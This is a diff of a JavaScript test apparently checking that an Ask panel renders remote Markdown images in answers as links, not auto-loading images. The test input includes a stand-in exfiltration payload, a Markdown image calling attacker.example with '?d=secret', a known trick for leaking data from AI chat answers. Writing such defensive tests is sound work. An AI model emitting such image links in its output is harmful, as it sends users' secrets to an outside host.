@@ -25,7 +25,9 @@ describe('the Ask panel renders answers as sanitized Markdown', () => {
   });
 
   it('a remote picture in an answer is a link naming its host, never an <img> that loads by itself', () => {
-    const html = renderMarkdown('![chart](https://attacker.example/p.png?d=secret) ![](http://127.0.0.1:9/x.png) ![local](pic.png) ![ok](data:image/png;base64,iVBORw0KGgo=)');
+    const html = renderMarkdown(
+      '![chart](https://attacker.example/p.png?d=secret) ![](http://127.0.0.1:9/x.png) ![local](pic.png) ![ok](data:image/png;base64,iVBORw0KGgo=)',
+    );
     const doc = new DOMParser().parseFromString(html, 'text/html');
     expect([...doc.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual(['data:image/png;base64,iVBORw0KGgo=']);
     const links = [...doc.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.textContent]);
